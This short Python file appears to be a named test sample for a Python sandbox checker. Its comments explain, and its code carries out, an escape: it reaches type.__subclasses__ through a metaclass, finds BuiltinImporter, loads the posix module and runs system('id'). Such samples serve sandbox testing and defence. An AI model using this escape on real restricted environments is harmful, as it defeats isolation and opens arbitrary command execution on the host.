# "A class's own __subclasses__()": Registry is the program's class, but it
# derives from type, so Registry.__subclasses__ is type's unbound method and
# Registry.__subclasses__(object) lists every subclass of object. The built-in
# importer found there loads posix, whose system() is called.
class Registry(type):
    """Metaclass that keeps track of plugin classes."""


for klass in Registry.__subclasses__(object):
    if klass.__name__ == "BuiltinImporter":
        spec = klass.find_spec("posix")
        native = klass.create_module(spec)
        print("exit", native.system("id"))
        break
